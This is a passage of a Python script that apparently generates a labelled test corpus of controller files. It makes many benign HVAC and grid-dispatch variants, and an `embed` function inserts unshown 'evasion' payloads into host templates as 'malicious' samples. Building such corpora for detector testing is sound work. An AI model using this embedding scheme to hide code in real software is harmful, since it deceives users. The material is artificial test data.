                return (last + move * (1 - self.tuning.damping)).tolist()
        ''',
    )

for i, (alpha,) in enumerate([(0.2,), (0.5,), (0.35,), (0.1,)]):
    benign(
        f"hvac_filtered_estimator_{i}",
        f'''
        """Exponentially filtered temperature estimate drives a proportional law."""
        import numpy as np

        ALPHA = {alpha}
        LOW, HIGH = 21.0, 24.0


        class Controller:
            """Filters the measurement, then acts in proportion to the filtered error."""

            def __init__(self, spec):
                self.estimate = None
                self.n = len(spec["state_names"])
                self.heat_max = np.asarray(spec["state_hi"], dtype=float)
                self.cool_max = -np.asarray(spec["state_lo"], dtype=float)

            def step(self, observation):
                t = np.asarray(observation["context"][2 + self.n:2 + 2 * self.n], dtype=float)
                self.estimate = t if self.estimate is None else ALPHA * t + (1 - ALPHA) * self.estimate
                heat = np.interp(self.estimate, [LOW - 1.0, LOW + 0.5], [1.0, 0.0])
                cool = np.interp(self.estimate, [HIGH - 0.5, HIGH + 1.0], [0.0, 1.0])
                return (heat * self.heat_max - cool * self.cool_max).tolist()
        ''',
    )

for i, (scale,) in enumerate([(1.0,), (0.8,), (0.6,), (0.9,)]):
    benign(
        f"hvac_functools_cache_{i}",
        f'''
        """Band lookup cached per half hour; occupancy-weighted setpoint."""
        from functools import lru_cache

        import numpy as np

        SCALE = {scale}


        @lru_cache(maxsize=48)
        def band_for(half_hour):
            hour = half_hour / 2.0
            return (21.0, 24.0) if 7.0 <= hour < 18.0 else (16.0, 28.0)


        class Controller:
            def __init__(self, spec):
                self.n = len(spec["state_names"])
                self.heat_max = np.asarray(spec["state_hi"], dtype=float) * SCALE
                self.cool_max = -np.asarray(spec["state_lo"], dtype=float) * SCALE

            def step(self, observation):
                c = observation["context"]
                t = np.asarray(c[2 + self.n:2 + 2 * self.n], dtype=float)
                lo, hi = band_for(int(c[1] * 2))
                heat = self.heat_max * np.clip(lo + 0.5 - t, 0, 1)
                cool = self.cool_max * np.clip(t - hi + 0.5, 0, 1)
                return (heat - cool).tolist()
        ''',
    )

for i, (seed,) in enumerate([(0,), (7,), (42,), (3,)]):
    benign(
        f"hvac_randomised_exploration_{i}",
        f'''
        """Thermostat with a small seeded exploration noise (for learning), clipped to capacity."""
        import numpy as np

        SEED = {seed}


        class Controller:
            def __init__(self, spec):
                self.rng = np.random.default_rng(SEED)
                self.n = len(spec["state_names"])
                self.lo = np.asarray(spec["state_lo"], dtype=float)
                self.hi = np.asarray(spec["state_hi"], dtype=float)

            def step(self, observation):
                t = np.asarray(observation["context"][2 + self.n:2 + 2 * self.n], dtype=float)
                u = self.hi * np.clip(21.5 - t, 0, 1) + self.lo * np.clip(t - 23.5, 0, 1)
                noise = self.rng.normal(0.0, 0.05, size=u.shape) * self.hi
                return np.clip(u + noise, self.lo, self.hi).tolist()


        if __name__ == "__main__":
            demo = Controller({{"state_names": ["u"], "state_lo": [-1.0], "state_hi": [1.0]}})
            print(demo.step({{"step": 0, "context": [5.0, 9.0, 0.8, 20.0], "state": [0.0]}}))
        ''',
    )

for i, (w,) in enumerate([(0.5,), (0.7,), (0.3,), (0.6,)]):
    benign(
        f"hvac_linalg_model_{i}",
        f'''
        """Fits a one-step linear model of each zone by least squares and inverts it."""
        import numpy as np

        WEIGHT = {w}
        TARGET = 22.5


        class Controller:
            def __init__(self, spec):
                self.n = len(spec["state_names"])
                self.lo = np.asarray(spec["state_lo"], dtype=float)
                self.hi = np.asarray(spec["state_hi"], dtype=float)
                self.rows = []
                self.prev = None
                self.gain = np.full(self.n, 0.1)

            def step(self, observation):
                t = np.asarray(observation["context"][2 + self.n:2 + 2 * self.n], dtype=float)
                u_prev = np.asarray(observation["state"], dtype=float)
                if self.prev is not None:
                    self.rows.append((u_prev, t - self.prev))
                if len(self.rows) > 6:
                    x = np.array([r[0] for r in self.rows[-24:]])
                    y = np.array([r[1] for r in self.rows[-24:]])
                    for z in range(self.n):
                        a = np.vstack([x[:, z], np.ones(len(x))]).T
                        coef, *_ = np.linalg.lstsq(a, y[:, z], rcond=None)
                        if coef[0] > 1e-4:
                            self.gain[z] = (1 - WEIGHT) * self.gain[z] + WEIGHT * coef[0]
                self.prev = t
                u = (TARGET - t) / np.maximum(self.gain, 1e-3) * 0.2
                return np.clip(u, self.lo, self.hi).tolist()
        ''',
    )

# grid: context = the load of each load bus (MW); state = the last dispatch; state_lo /
# state_hi = Pmin / Pmax per unit.

for i, (smooth,) in enumerate([(1.0,), (0.8,), (0.6,), (0.9,)]):
    benign(
        f"grid_priority_order_{i}",
        f'''
        """Priority order: the largest units first (cheapest per MW in most cases), ramp-limited."""
        import numpy as np

        SMOOTH = {smooth}
        RAMP = 0.25  # of Pmax per step


        class Controller:
            def __init__(self, spec):
                self.pmin = np.asarray(spec["state_lo"], dtype=float)
                self.pmax = np.asarray(spec["state_hi"], dtype=float)
                self.order = np.argsort(-(self.pmax - self.pmin))

            def step(self, observation):
                demand = float(sum(observation["context"]))
                prev = np.asarray(observation["state"], dtype=float)
                out = self.pmin.copy()
                remaining = demand - out.sum()
                for g in self.order:
                    take = min(max(remaining, 0.0), self.pmax[g] - self.pmin[g])
                    out[g] += take
                    remaining -= take
                target = SMOOTH * out + (1 - SMOOTH) * prev
                if observation["step"] == 0:
                    return out.tolist()
                return np.clip(target, prev - RAMP * self.pmax, prev + RAMP * self.pmax).tolist()
        ''',
    )

for i, (head,) in enumerate([(0.05,), (0.1,), (0.0,), (0.08,)]):
    benign(
        f"grid_prorata_headroom_{i}",
        f'''
        """Every unit at the same fraction of its range, keeping {head:.0%} headroom."""
        import numpy as np

        HEADROOM = {head}


        class Controller:
            def __init__(self, spec):
                self.lo = np.asarray(spec["state_lo"], dtype=float)
                self.hi = np.asarray(spec["state_hi"], dtype=float) * (1 - HEADROOM)

            def step(self, observation):
                demand = float(np.sum(observation["context"]))
                span = np.maximum(self.hi - self.lo, 0.0)
                fraction = min(max((demand - self.lo.sum()) / max(span.sum(), 1e-9), 0.0), 1.0)
                return (self.lo + fraction * span).tolist()
        ''',
    )

for i, (iters,) in enumerate([(30,), (50,), (20,), (40,)]):
    benign(
        f"grid_bisection_{i}",
        f'''
        """Finds the common loading level that meets demand by bisection (units saturate)."""
        import numpy as np

        ITERATIONS = {iters}


        class Controller:
            def __init__(self, spec):
                self.pmin = np.asarray(spec["state_lo"], dtype=float)
                self.pmax = np.asarray(spec["state_hi"], dtype=float)

            def dispatch(self, level):
                return np.clip(self.pmin + level * self.pmax, self.pmin, self.pmax)

            def step(self, observation):
                demand = float(np.sum(observation["context"]))
                low, high = 0.0, 1.0
                for _ in range(ITERATIONS):
                    mid = 0.5 * (low + high)
                    if self.dispatch(mid).sum() > demand:
                        high = mid
                    else:
                        low = mid
                return self.dispatch(0.5 * (low + high)).tolist()
        ''',
    )

for i, (base,) in enumerate([(0.3,), (0.5,), (0.2,), (0.4,)]):
    benign(
        f"grid_agc_participation_{i}",
        f'''
        """A base schedule plus AGC: the gap to demand shared by participation factors."""
        import numpy as np


        class Controller:
            def __init__(self, spec):
                self.pmin = np.asarray(spec["state_lo"], dtype=float)
                self.pmax = np.asarray(spec["state_hi"], dtype=float)
                self.base = self.pmin + {base} * (self.pmax - self.pmin)
                span = self.pmax - self.pmin
                self.factors = span / span.sum()

            def step(self, observation):
                demand = float(np.sum(observation["context"]))
                x = self.base.copy()
                for _ in range(len(self.pmin)):
                    gap = demand - x.sum()
                    if abs(gap) < 1e-6:
                        break
                    x = np.clip(x + gap * self.factors, self.pmin, self.pmax)
                return x.tolist()
        ''',
    )

for i, (window,) in enumerate([(3,), (6,), (12,), (4,)]):
    benign(
        f"grid_forecast_ramp_{i}",
        f'''
        """Follows a moving-average load trend and pre-positions units for the next step."""
        from collections import deque
        import itertools

        import numpy as np

        WINDOW = {window}


        class Controller:
            def __init__(self, spec):
                self.pmin = np.asarray(spec["state_lo"], dtype=float)
                self.pmax = np.asarray(spec["state_hi"], dtype=float)
                self.seen = deque(maxlen=WINDOW)

            def trend(self):
                pairs = list(itertools.pairwise(self.seen))
                if not pairs:
                    return 0.0
                return sum(b - a for a, b in pairs) / len(pairs)

            def step(self, observation):
                demand = float(np.sum(observation["context"]))
                self.seen.append(demand)
                expected = demand + 0.5 * self.trend()
                span = self.pmax - self.pmin
                fraction = np.clip((expected - self.pmin.sum()) / span.sum(), 0.0, 1.0)
                return (self.pmin + fraction * span).tolist()
        ''',
    )

for i, (reserve,) in enumerate([(0.1,), (0.05,), (0.15,), (0.08,)]):
    benign(
        f"grid_reserve_aware_{i}",
        f'''
        """Largest units first, but none above {1 - reserve:.0%} of Pmax: spinning reserve."""
        import heapq
        import math

        import numpy as np

        RESERVE = {reserve}


        class Controller:
            def __init__(self, spec):
                self.pmin = np.asarray(spec["state_lo"], dtype=float)
                self.pmax = np.asarray(spec["state_hi"], dtype=float)
                self.cap = self.pmax * (1 - RESERVE)
                heap = [(-float(p), g) for g, p in enumerate(self.pmax)]
                heapq.heapify(heap)
                self.order = [heapq.heappop(heap)[1] for _ in range(len(heap))]

            def step(self, observation):
                left = float(sum(observation["context"])) - self.pmin.sum()
                out = self.pmin.copy()
                for g in self.order:
                    room = max(self.cap[g] - self.pmin[g], 0.0)
                    if math.isclose(room, 0.0):
                        continue
                    add = min(max(left, 0.0), room)
                    out[g] += add
                    left -= add
                for g in self.order:  # what the reserve cap left unserved
                    add = min(max(left, 0.0), self.pmax[g] - out[g])
                    out[g] += add
                    left -= add
                return out.tolist()
        ''',
    )

for i, (kind,) in enumerate([("namedtuple",), ("typed",), ("namedtuple",), ("typed",)]):
    header = (
        "from collections import namedtuple\n\nUnit = namedtuple('Unit', ['index', 'low', 'high'])\n"
        if kind == "namedtuple"
        else "from typing import NamedTuple\n\n\nclass Unit(NamedTuple):\n    index: int\n    low: float\n    high: float\n"
    )
    benign(
        f"grid_units_{kind}_{i}",
        f'''
"""Units as named tuples; demand filled from the biggest unit down, variant {i}."""
import numpy as np
{header}

class Controller:
    def __init__(self, spec):
        units = [Unit(k, lo, hi) for k, (lo, hi) in enumerate(zip(spec["state_lo"], spec["state_hi"]))]
        self.units = sorted(units, key=lambda u: u.high - u.low, reverse=True)
        self.size = len(units)

    def step(self, observation):
        out = np.zeros(self.size)
        for u in self.units:
            out[u.index] = u.low
        left = float(sum(observation["context"])) - out.sum()
        for u in self.units:
            add = min(max(left, 0.0), u.high - u.low)
            out[u.index] += add
            left -= add
        return out.tolist()
''',
    )

for i, (p,) in enumerate([(2,), (3,), (1,), (4,)]):
    benign(
        f"grid_match_dispatch_{i}",
        f'''
        """Chooses a policy by the size of the step in demand (match statement)."""
        import numpy as np

        POLICY = {p}


        class Controller:
            def __init__(self, spec):
                self.pmin = np.asarray(spec["state_lo"], dtype=float)
                self.pmax = np.asarray(spec["state_hi"], dtype=float)
                self.prev_demand = None

            def share(self, demand):
                span = self.pmax - self.pmin
                f = np.clip((demand - self.pmin.sum()) / span.sum(), 0.0, 1.0)
                return (self.pmin + f * span).tolist()

            def step(self, observation):
                demand = float(np.sum(observation["context"]))
                jump = 0.0 if self.prev_demand is None else abs(demand - self.prev_demand)
                self.prev_demand = demand
                match POLICY:
                    case 1:
                        return self.share(demand)
                    case 2 if jump > 5.0:
                        return self.share(demand * 1.01)
                    case {{"mode": mode}}:
                        return self.share(demand * mode)
                    case _:
                        return self.share(demand)
        ''',
    )

for i, (n,) in enumerate([(4,), (8,), (6,), (10,)]):
    benign(
        f"grid_fraction_{i}",
        f'''
        """Exact fractions for the sharing weights (no float drift), then numpy."""
        from fractions import Fraction
        from functools import reduce

        import numpy as np


        class Controller:
            def __init__(self, spec):
                self.pmin = np.asarray(spec["state_lo"], dtype=float)
                self.pmax = np.asarray(spec["state_hi"], dtype=float)
                spans = [Fraction(round(h - l, 3)).limit_denominator({n} * 100) for l, h in zip(spec["state_lo"], spec["state_hi"])]
                total = reduce(lambda a, b: a + b, spans, Fraction(0))
                self.weights = np.array([float(s / total) if total else 0.0 for s in spans])

            def step(self, observation):
                extra = max(float(np.sum(observation["context"])) - self.pmin.sum(), 0.0)
                return np.minimum(self.pmin + extra * self.weights, self.pmax).tolist()
        ''',
    )


def embed(host: str, where: str, imports: str, payload: str) -> str:
    step = textwrap.indent(payload, " " * 8) if where == "step" else ""
    init = textwrap.indent(payload, " " * 8) + "\n" if where == "init" else ""
    module = payload + "\n" if where == "module" else ""
    return host.format(imports=imports, module=module, init=init, payload=step).replace("\n\n\n\n", "\n\n\n")


def build() -> tuple[int, int]:
    for sub in ("malicious", "benign"):
        d = HERE / sub
        d.mkdir(exist_ok=True)
        for old in d.glob("*.py"):
            old.unlink()
    for n, (family, name, where, imports, payload) in enumerate(EVASIONS):
        host = HOSTS[n % len(HOSTS)]
        (HERE / "malicious" / f"{n:03d}_{family}_{name}.py").write_text(embed(host, where, imports, payload))
    for n, (name, source) in enumerate(BENIGN):
        (HERE / "benign" / f"{n:03d}_{name}.py").write_text(source)
    return len(EVASIONS), len(BENIGN)


if __name__ == "__main__":
    print("malicious %d, benign %d" % build())
